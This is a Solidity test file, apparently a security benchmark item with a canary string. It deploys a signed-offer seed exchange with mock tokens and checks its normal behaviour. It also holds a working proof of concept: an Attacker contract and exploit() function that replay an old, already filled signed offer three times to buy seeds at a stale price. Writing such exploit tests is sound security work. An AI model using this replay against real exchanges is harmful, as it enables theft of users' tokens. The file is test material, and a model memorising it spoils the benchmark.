// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-20632d1b-fc3d-4550-9dd0-f909c678b0b8

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./SeedExchange.sol";

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function expectRevert(bytes calldata reason) external;
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 hash) external returns (uint8 v, bytes32 r, bytes32 s);
}

contract Seed is ERC20 {
    constructor() ERC20("Rye Seed", "RYE") {
        _mint(msg.sender, 1_000_000e18);
    }
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 1_000_000e18);
    }
}

/// Buys at the price of an offer that was filled long ago.
contract Attacker {
    function fill(SeedExchange exchange, SignedOffers.Offer calldata offer, bytes calldata signature) external {
        exchange.coin().approve(address(exchange), type(uint256).max);
        exchange.fill(offer, signature);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant GROWER = 0x960;
    address private constant BELA = address(0xBE1A);
    uint256 private constant START = 1_773_100_000;

    Seed public seed;
    Coin public coin;
    SeedExchange public exchange;
    Attacker public buyer;
    address public grower;

    SignedOffers.Offer private offer;
    bytes private signature;

    function setUp() public {
        vm.warp(START);
        seed = new Seed();
        coin = new Coin();
        exchange = new SeedExchange(seed, coin);
        buyer = new Attacker();
        grower = vm.addr(GROWER);
        seed.transfer(grower, 1_000e18);
        vm.prank(grower);
        seed.approve(address(exchange), type(uint256).max);
        coin.transfer(BELA, 10_000e18);
        vm.prank(BELA);
        coin.approve(address(exchange), type(uint256).max);
        offer = SignedOffers.Offer(grower, 1_000e18, 2_000e18, 1_000e18, START + 90 days, 1);
        signature = _sign(offer);
        vm.prank(BELA);
        exchange.fill(offer, signature);
        // the harvest comes in, and seeds have become dear
        vm.warp(START + 60 days);
        seed.transfer(grower, 5_000e18);
        coin.transfer(address(buyer), 10_000e18);
    }

    function _sign(SignedOffers.Offer memory o) private returns (bytes memory) {
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(GROWER, exchange.idOf(o));
        return abi.encodePacked(r, s, v);
    }

    function test_Regular() public {
        require(seed.balanceOf(BELA) == 1_000e18 && coin.balanceOf(grower) == 2_000e18, "bought");
        SignedOffers.Offer memory o = SignedOffers.Offer(grower, 500e18, 3_000e18, 5_000e18, START + 70 days, 2);
        bytes memory s = _sign(o);
        bytes32 id = exchange.idOf(o);
        vm.prank(BELA);
        require(exchange.fill(o, s) == id, "the id");
        require(seed.balanceOf(BELA) == 1_500e18 && coin.balanceOf(grower) == 5_000e18, "bought again");
        o.salt = 3;
        vm.prank(grower);
        exchange.close(o);
        require(exchange.closed(exchange.idOf(o)), "closed");
    }

    function test_Refuses() public {
        SignedOffers.Offer memory o = SignedOffers.Offer(grower, 500e18, 3_000e18, 5_000e18, START + 70 days, 2);
        bytes memory s = _sign(o);
        bytes32 id = exchange.idOf(o);
        vm.expectRevert(abi.encodeWithSelector(SignedOffers.NotTheGrower.selector, address(this)));
        exchange.close(o);
        o.seeds = 501e18;
        bytes32 other = exchange.idOf(o);
        vm.prank(BELA);
        try exchange.fill(o, s) {
            revert("another offer");
        } catch (bytes memory reason) {
            require(bytes4(reason) == SignedOffers.NotSigned.selector && other != id, "not signed");
        }
        o.seeds = 500e18;
        vm.prank(grower);
        exchange.close(o);
        vm.expectRevert(abi.encodeWithSelector(SignedOffers.IsClosed.selector, id));
        exchange.fill(o, s);
        vm.warp(START + 70 days + 1);
        vm.expectRevert(abi.encodeWithSelector(SeedExchange.TooLate.selector, START + 70 days));
        exchange.fill(o, s);
    }

    function test_RefusesWithoutSeeds() public {
        SignedOffers.Offer memory o = SignedOffers.Offer(grower, 500e18, 0, 5_000e18 + 1, START + 70 days, 2);
        bytes memory s = _sign(o);
        bytes32 id = exchange.idOf(o);
        vm.expectRevert(abi.encodeWithSelector(SeedExchange.Sold.selector, id));
        exchange.fill(o, s);
    }

    function exploit() public {
        buyer.fill(exchange, offer, signature);
        buyer.fill(exchange, offer, signature);
        buyer.fill(exchange, offer, signature);
    }

    function test_Exploit() public {
        exploit();
        require(seed.balanceOf(address(buyer)) >= 3_000e18, "no gain");
    }

    function target() public view returns (address) {
        return address(exchange);
    }

    function attacker() public view returns (address) {
        return address(buyer);
    }
}
